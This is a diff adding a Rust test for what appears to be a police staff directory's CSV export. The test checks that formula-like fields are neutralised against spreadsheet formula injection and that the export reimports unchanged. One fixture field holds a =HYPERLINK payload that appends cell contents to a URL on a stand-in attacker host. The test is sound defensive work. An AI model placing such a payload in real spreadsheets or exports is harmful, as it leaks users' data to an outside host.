@@ -467,3 +467,87 @@ fn the_header_keeps_its_own_line_after_blank_lines() {
         "#]],
     );
 }
+
+#[test]
+fn an_export_of_formula_like_text_is_safe_in_a_spreadsheet_and_reimports_unchanged() {
+    // Names, a department and a location that a spreadsheet would run as formulas, next to
+    // quotes a person may really have in their name or department.
+    let hostile = "\
+100,cleveland,=Jones,-Smith,ann.hill@cleveland.police.uk,+ Ops,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"x\"\")\",Inspector,officer,,2005-03-01,no,no,serving
+101,cleveland,''=Bo,O'Neill,bo.khan@cleveland.police.uk,'Response,Middlesbrough,Sergeant,officer,100,2012-09-10,no,no,serving
+";
+    let directory = directory(hostile);
+    let held: Vec<_> = directory
+        .people
+        .iter()
+        .map(|person| &person.record)
+        .collect();
+    assert_eq!(held[0].first_name.as_ref(), "=Jones");
+    // A file's `''=Bo` is the neutralised form of `'=Bo`, as the export writes it.
+    assert_eq!(held[1].first_name.as_ref(), "'=Bo");
+
+    let text = String::from_utf8(write_file(held)).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cells =
+        |row: &csv::StringRecord| row.iter().take(14).map(str::to_owned).collect::<Vec<_>>();
+    assert_eq!(
+        cells(&rows[0]),
+        [
+            "100",
+            "cleveland",
+            "'=Jones",
+            "'-Smith",
+            "ann.hill@cleveland.police.uk",
+            "'+ Ops",
+            "'=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")",
+            "Inspector",
+            "officer",
+            "",
+            "2005-03-01",
+            "false",
+            "false",
+            "serving",
+        ]
+    );
+    assert_eq!(
+        cells(&rows[1]),
+        [
+            "101",
+            "cleveland",
+            "''=Bo",
+            "O'Neill",
+            "bo.khan@cleveland.police.uk",
+            "'Response",
+            "Middlesbrough",
+            "Sergeant",
+            "officer",
+            "100",
+            "2012-09-10",
+            "false",
+            "false",
+            "serving",
+        ]
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {row:?}"
+            );
+        }
+    }
+
+    assert_eq!(
+        outcome(
+            &directory,
+            &text,
+            ImportOptions {
+                full_extract: true,
+                create_organisations: false
+            }
+        ),
+        "rows 2\nunchanged 2\n",
+        "the export reimports without a change: {text}"
+    );
+}
